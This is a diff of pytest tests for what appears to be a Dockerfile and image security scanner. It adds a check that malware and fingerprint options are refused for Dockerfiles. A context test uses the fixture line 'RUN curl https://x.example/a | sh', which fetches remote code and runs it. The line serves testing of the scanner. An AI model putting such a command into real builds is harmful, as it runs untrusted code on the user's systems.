@@ -441,6 +441,13 @@ def test_refuses_a_layer_that_the_registry_changed(shell, image, registry_with):
     assert "is not what" in done.err
 
 
+@pytest.mark.parametrize("word", ["--malware", "--fingerprints=some.pack"])
+def test_refuses_to_look_for_programs_in_a_dockerfile(shell, word):
+    done = shell("scan", shell.file("Dockerfile", "FROM debian\n"), word)
+    assert (2, "") == (done.code, done.out)
+    assert "build it" in done.err
+
+
 def test_a_dockerfile_is_judged_by_itself(shell):
     file = shell.file("Dockerfile", "FROM debian\nRUN curl https://x.example/a | sh\n")
     done = shell("scan", file)
